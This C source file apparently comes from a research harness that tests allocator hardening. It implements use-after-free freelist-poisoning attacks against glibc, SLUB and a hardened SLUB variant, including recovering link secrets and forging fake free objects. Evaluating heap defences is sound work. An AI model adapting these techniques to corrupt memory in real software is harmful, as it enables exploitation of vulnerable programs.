/* SPDX-License-Identifier: MIT */
/*
 * A read of the first n bytes of a freed block whose address is known, then a write of as many to
 * it: the attacker makes what he has read into a link to his own buffer.
 */
#include "attack.h"

struct read_block {
	char *block, *next;	/* freed last, and before that */
	size_t distance;	/* of neighbours */
	struct neighbours others;	/* the attacker's */
};

static struct read_block freed(size_t size)
{
	struct neighbours pair, others;

	history(size);
	others = neighbours_get(size);
	if (dialect == SLUB_HARDENED)
		late_get(size);
	pair = neighbours_get(size);
	if (dialect != SLUB_HARDENED)
		free_some(size, pair.first, pair.second);
	block_put(pair.first);
	block_put(pair.second);
	if (dialect == SLUB_HARDENED)
		late_put();
	return (struct read_block){ pair.second, pair.first, pair.distance,
				    others };
}

static bool glibc(size_t size, struct read_block read)
{
	/* It need not read anything: the address is all. */
	word_write(read.block, plain_link(read.block, buffer));
	return gets_wrong(size, 200);
}

/* The hardened build: the tail, perhaps, has the same secret. */
static bool hardened(size_t size, struct read_block read)
{
	uint64_t secret = hardened_link_secret(word_at(read.block), read.block,
					       read.next);

	hardened_fake(buffer, read.distance, secret, secret);
	word_write(read.block, hardened_link(secret, read.block, buffer));
	return gets_wrong(size, 2000);
}

static bool by_8(size_t size)
{
	struct read_block read = freed(size);

	if (dialect == GLIBC)
		return glibc(size, read);
	if (dialect == SLUB_HARDENED)
		return hardened(size, read);
	word_write(read.block, (uintptr_t)buffer);
	return gets_wrong(size, 200);
}

static bool slub(size_t size, struct read_block read, enum second_word way)
{
	uintptr_t key = second_word_key(way, (uintptr_t)read.block,
					word_at(read.block),
					word_at(read.block + 8));
	uintptr_t words[2] = { (uintptr_t)buffer };

	words[1] = second_word_make(way, key, (uintptr_t)read.block, words[0]);
	word_write(buffer + 8,
		   second_word_make(way, key, (uintptr_t)buffer, 0));
	bytes_write(read.block, words, 16);
	return gets_wrong(size, 200);
}

static bool by_16(size_t size)
{
	enum second_word way = second_word_study(size);
	struct read_block read = freed(size);

	return dialect == GLIBC ? glibc(size, read) :
	       dialect == SLUB	? slub(size, read, way) : hardened(size, read);
}

/*
 * Where a free object of the hardened build may be forged, from @first on, the first of two blocks
 * of the attacker's: it lies across both, for the map of pages is asked.  The end of @first must
 * lie behind what is to be zeros.
 */
static char *hardened_place(size_t size, const char *first)
{
	return size > 2 * HARDENED_ZEROS ? (char *)first + HARDENED_ZEROS :
					   buffer;
}

/* All of it, with what lies behind the bytes asked for. */
static bool whole(size_t size)
{
	struct neighbours pair;
	struct read_block read;
	char *own, *tail, *place;
	uint64_t links, tails;

	if (dialect != SLUB_HARDENED)
		return by_16(size);
	read = freed(size);
	pair = read.others;
	own = block_some(size, read.block);
	tail = own + read.distance - sizeof(uint64_t);
	links = hardened_link_secret(word_at(read.block), read.block,
				     read.next);
	tails = hardened_tail_secret(word_at(tail), own, size);
	place = hardened_place(size, pair.first);
	hardened_fake(place, read.distance, links, tails);
	word_write(read.block, hardened_link(links, read.block, place));
	return gets_wrong(size, 2000);
}

/*
 * The 16 bytes are read of a new block, before the program has written to it; they are used when
 * it is free again.
 */
static bool fresh(size_t size)
{
	enum second_word way = second_word_study(size);
	uintptr_t first, second, key, words[2] = { (uintptr_t)buffer };
	char *block;

	freed(size);
	block = object_alloc(size);
	first = word_at(block);
	second = word_at(block + 8);
	object_free(block);
	if (dialect == GLIBC) {
		word_write(block, plain_link(block, buffer));
	} else if (dialect == SLUB) {
		key = second_word_key(way, (uintptr_t)block, first, second);
		words[1] = second_word_make(way, key, (uintptr_t)block,
					    words[0]);
		word_write(buffer + 8,
			   second_word_make(way, key, (uintptr_t)buffer, 0));
		bytes_write(block, words, 16);
	}
	return gets_wrong(size, 200);
}

const struct attack attacks[] = {
	{ "8", by_8, { 64, 200 }, { 24, 512, 1000 }, NULL },
	{ "16", by_16, { 64, 200 }, { 16, 24, 512, 1000 }, NULL },
	{ "whole", whole, { 64, 512 }, { 24, 200, 1000 }, NULL },
	{ "new", fresh, { 64 }, { 16, 24, 200, 512, 1000 }, NULL },
	{ .name = NULL },
};
